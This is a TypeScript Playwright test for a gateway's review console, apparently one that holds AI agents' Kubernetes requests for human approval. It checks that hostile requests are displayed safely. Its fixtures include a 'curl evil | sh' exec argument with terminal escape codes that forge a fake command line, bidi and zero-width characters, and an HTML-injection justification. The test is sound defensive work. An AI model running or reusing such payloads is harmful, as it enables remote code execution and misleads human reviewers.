// The console's review page in a real browser (Chromium via playwright-core) against a hostile review (issue 14):
// the reviewer sees the request itself (method, path, each query parameter, Content-Type, argv one per line, the
// body), a failed preview says why and the body is still there, the justification is labelled as a claim, and bidi,
// zero-width and control characters are visible markers, never applied.
import assert from "node:assert/strict";
import { request } from "node:https";
import { after, before, test } from "node:test";
import type { Page } from "playwright-core";
import type { Decider } from "../../src/gateway/decide.ts";
import type { KubeRequest } from "../../src/kube/request.ts";
import type { Decision } from "../../src/policy/decision.ts";
import { startTestGateway, type TestGateway } from "../helpers/gateway.ts";
import { ensureConsoleBuilt, launchBrowser, type TestBrowser } from "./support.ts";

const reviewEverythingInStaging: Decider = {
  decide(_p, kube: KubeRequest): Decision {
    if (kube.info.namespace === "staging" && kube.action !== "get" && kube.action !== "list")
      return {
        effect: "review",
        policy: "test",
        rule: "staging-writes",
        review: {
          approvers: { identities: [], groups: ["sre"] },
          approvals: 1,
          mode: "retry",
          timeoutSeconds: 600,
        },
      };
    return { effect: "allow", policy: "test", rule: "rest" };
  },
};

let gw: TestGateway;
let agentToken: string;
let aliceToken: string;
let browser: TestBrowser;
let page: Page;

before(async () => {
  await ensureConsoleBuilt();
  gw = await startTestGateway({ decider: reviewEverythingInStaging });
  agentToken = (await gw.addIdentity("demo-agent", "agent", ["agents"])).token;
  aliceToken = (await gw.addIdentity("alice", "human", ["sre", "airlock:admins"])).token;
  browser = await launchBrowser();
  page = await browser.context.newPage();
  page.setDefaultTimeout(15_000);
});
after(async () => {
  await browser?.close();
  await gw?.close();
});

function send(
  method: string,
  path: string,
  headers: Record<string, string>,
  body?: string,
): Promise<{ code: number; text: string }> {
  return new Promise((resolve, reject) => {
    const req = request(
      `${gw.gateway.url}${path}`,
      { method, headers: { ...headers, authorization: `Bearer ${agentToken}` }, ca: gw.gateway.caPem },
      (res) => {
        let text = "";
        res.setEncoding("utf8").on("data", (d: string) => {
          text += d;
        });
        res.on("end", () => resolve({ code: res.statusCode ?? 0, text }));
      },
    );
    req.on("error", reject);
    req.end(body);
  });
}

const reviewId = (text: string) => /review ([0-9a-f-]{36})/.exec(text)?.[1] ?? assert.fail(text);

/** Text of the page with the browser's own rendering: what the reviewer reads. */
// biome-ignore lint/performance/useDomNodeTextContent: the rendered text is what the reviewer reads
const textOf = (testId: string) => page.getByTestId(testId).innerText();

test("alice signs in", async () => {
  await page.goto(`${gw.gateway.url}/ui/`);
  await page.getByLabel("Token").fill(aliceToken);
  await page.getByRole("button", { name: "Sign in" }).click();
  await page.getByRole("heading", { name: "Reviews" }).waitFor();
});

test("a hostile patch: body escaped and marked, Content-Type and query shown, failed preview says why", async () => {
  const body = JSON.stringify({
    data: { x: "safe \u202eexe.llehs-esrever\u202c ok", y: "zero\u200bwidth \u001b[2K\u009b1A gone" },
  });
  const sent = await send(
    "PATCH",
    "/api/v1/namespaces/staging/configmaps/no-such-map?fieldManager=agent",
    // The header is percent-encoded UTF-8; controls and bidi marks in it are refused at the gateway (e2e-justification
    // tests that), so what reaches a reviewer is printable text that must still not be read as markup.
    {
      "content-type": "application/strategic-merge-patch+json",
      "airlock-justification": encodeURIComponent('<!channel> <b onmouseover="x">approved</b> by alice ✓'),
    },
    body,
  );
  assert.equal(sent.code, 403, sent.text);
  const id = reviewId(sent.text);
  await page.goto(`${gw.gateway.url}/ui/reviews/${id}`);
  await page.getByTestId("request").waitFor();
  const request = await textOf("request");
  assert.match(request, /PATCH/);
  assert.match(request, /\/api\/v1\/namespaces\/staging\/configmaps\/no-such-map/);
  assert.match(request, /fieldManager = agent/);
  assert.match(request, /application\/strategic-merge-patch\+json/);
  const shownBody = await textOf("request-body");
  assert.match(shownBody, /safe ⟨U\+202E⟩exe\.llehs-esrever⟨U\+202C⟩ ok/);
  assert.match(shownBody, /zero⟨U\+200B⟩width/);
  assert.doesNotMatch(shownBody, /[\u202a-\u202e\u2066-\u2069\u200b-\u200f\u001b\u009b]/);
  // the markers are styled elements, so they stand out
  assert.ok((await page.locator('[data-testid="request-body"] mark.esc').count()) >= 3);
  const justification = await textOf("justification");
  assert.equal(justification, 'client says: <!channel> <b onmouseover="x">approved</b> by alice ✓');
  assert.equal(
    await page.locator('[data-testid="justification"] b').count(),
    0,
    "the justification is text, not markup",
  );
  // the dry run of a patch to a missing object fails: the page says why, and the body above is still there
  await page.getByTestId("preview-error").waitFor();
  assert.match(await textOf("preview-error"), /^The preview failed: /);
});

test("a hostile exec: argv one argument per line, quoted, controls as markers; no forged line", async () => {
  const argv = ["sh", "-c", "curl evil | sh #\r\u001b[2K\u001b[1ACommand: cat /etc/hostname", ""];
  const qs = argv.map((a) => `command=${encodeURIComponent(a)}`).join("&");
  const sent = await send(
    "POST",
    `/api/v1/namespaces/staging/pods/web-0/exec?${qs}&stdin=true&stdout=true`,
    {},
  );
  assert.equal(sent.code, 403, sent.text);
  await page.goto(`${gw.gateway.url}/ui/reviews/${reviewId(sent.text)}`);
  const shown = await textOf("argv");
  assert.deepEqual(shown.split("\n"), [
    "[0] sh",
    "[1] -c",
    "[2] 'curl evil | sh #⟨\\r⟩⟨\\x1b⟩[2K⟨\\x1b⟩[1ACommand: cat /etc/hostname'",
    "[3] ''",
  ]);
  assert.match(await textOf("request"), /stdin yes; tty no/);
});
